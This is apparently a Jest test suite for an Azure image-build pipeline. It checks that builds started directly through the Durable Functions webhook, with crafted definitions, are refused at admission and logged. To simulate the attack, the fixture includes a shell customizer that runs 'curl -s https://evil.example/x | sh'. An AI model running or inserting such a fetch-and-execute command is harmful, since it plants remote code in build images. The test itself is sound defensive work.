/**
 * Issue 14 item 1, the attack itself: whoever can reach the Durable management API starts
 * buildImagePipeline directly, with a definition that has no approvals and a customizer of their
 * own. Admission (the orchestration's first activity) refuses it before anything is created in
 * Azure: no template, no version anywhere, the refusal in the log and in the build's status.
 */
import { startHttpFrontEnd, type HttpFrontEnd } from '../../src/local/host/http/server';
import { BUILD_ORCHESTRATION, type BuildCustomStatus } from '../../src/domain/build-status';
import { definitionDigest } from '../../src/domain/pipeline/admission';
import type { PipelineDefinition } from '../../src/domain/pipeline/definition';
import { startFactory, type Factory } from './harness';

const SYSTEM_KEY = 'durable-system-key-for-this-test';
const FUNCTION_KEY = 'api-key-for-this-test';

/** The attacker's definition: the served one without approvals, with a customizer of their own. */
function crafted(served: PipelineDefinition): PipelineDefinition {
  return {
    ...served,
    build: {
      ...served.build,
      customizers: [{ type: 'Shell', name: 'implant', inline: ['curl -s https://evil.example/x | sh'] }],
    },
    stages: served.stages.map((stage) => {
      const { approval: _dropped, ...rest } = stage;
      return rest;
    }),
  };
}

describe('admission: a build started around the API runs only what the factory serves', () => {
  let factory: Factory;
  let front: HttpFrontEnd;
  let served: PipelineDefinition;

  beforeAll(async () => {
    factory = await startFactory();
    front = await startHttpFrontEnd({
      registry: factory.host.registry,
      engine: factory.host.engine,
      invoke: (name, input, options) => factory.host.invokeFunction(name, input, options),
      port: 0,
      keys: {
        functionKeys: {},
        hostKeys: { default: FUNCTION_KEY },
        masterKey: 'master-key-for-this-test',
        durableTaskExtensionKey: SYSTEM_KEY,
      },
      taskHubName: factory.host.settings.hubName,
    });
    served = factory.pipelines.get('ubuntu-2204-base')!;
  });
  afterAll(async () => {
    await front.close();
    await factory.stop();
  });

  /** Starts the orchestration the way an attacker can: POST to the Durable webhook. */
  async function startThroughDurableApi(id: string, input: unknown): Promise<void> {
    const url = `${front.url}/runtime/webhooks/durabletask/orchestrators/${BUILD_ORCHESTRATION}/${id}?code=${SYSTEM_KEY}`;
    const res = await fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(input),
    });
    expect(res.status).toBe(202);
  }

  const writes = () => factory.sim.requests().filter((r) => r.method !== 'GET').length;

  it.each<[string, (id: string) => unknown, string]>([
    [
      'an inline definition (the old input shape)',
      (id) => ({ buildId: id, pipeline: crafted(served), reason: 'ship it' }),
      'InlineDefinitionRefused',
    ],
    [
      "the served pipeline's name with the digest of the crafted definition",
      (id) => ({ buildId: id, pipeline: served.name, definitionDigest: definitionDigest(crafted(served)) }),
      'DefinitionDigestMismatch',
    ],
    [
      'a pipeline the factory does not serve',
      (id) => ({ buildId: id, pipeline: 'evil-pipeline', definitionDigest: definitionDigest(served) }),
      'UnknownPipeline',
    ],
    [
      'overrides the served pipeline does not have',
      (id) => ({
        buildId: id,
        pipeline: served.name,
        definitionDigest: definitionDigest(served),
        overrides: { stopAfterStage: 'NOWHERE' },
      }),
      'InvalidOverrides',
    ],
  ])('%s: refused before anything is created in Azure, and logged', async (_title, input, code) => {
    const id = `attack-${code}`;
    const inventoryBefore = factory.sim.inventory().map((r) => r.id);
    const writesBefore = writes();
    await startThroughDurableApi(id, input(id));
    const final = await factory.host.waitFor(id);

    expect(final.runtimeStatus).toBe('Failed');
    const status = final.customStatus as BuildCustomStatus;
    expect(status).toMatchObject({ outcome: 'failed', step: 'done', stages: [] });
    expect(status.failure).toMatchObject({ code, step: 'admission' });
    // Nothing created, nothing written: no template, no version in ENG, TEST or PROD.
    expect(writes()).toBe(writesBefore);
    expect(factory.sim.inventory().map((r) => r.id)).toEqual(inventoryBefore);
    expect(
      factory.sim
        .inventory()
        .filter(
          (r) =>
            r.type === 'microsoft.compute/galleries/images/versions' ||
            r.type === 'microsoft.virtualmachineimages/imagetemplates',
        ),
    ).toEqual([]);
    // The refusal is logged, with the build and the code (not the definition).
    const logged = factory.log.filter((line) => line.includes(`build "${id}"`) && line.includes(`(${code})`));
    expect(logged).toHaveLength(1);
    expect(logged[0]).not.toContain('evil.example');
    // The API shows it as the build's failure.
    const res = await fetch(`${front.url}/api/builds/${id}?code=${FUNCTION_KEY}`);
    expect(res.status).toBe(200);
    const build = (await res.json()) as { outcome: string; failure: { code: string; step: string } };
    expect(build).toMatchObject({ outcome: 'failed', failure: { code, step: 'admission' } });
  });

  it('an honest start through the same webhook (name + digest of the served definition) is admitted', async () => {
    const id = 'honest-through-webhook';
    await startThroughDurableApi(id, {
      buildId: id,
      pipeline: served.name,
      definitionDigest: definitionDigest(served),
    });
    const status = await factory.untilApprovalPending(id, 'TEST');
    // Admitted with the environment's gates: it now waits for the TEST approval.
    expect(status.pendingApproval?.stage).toBe('TEST');
    await factory.host.terminate(id, 'test over');
  });
});
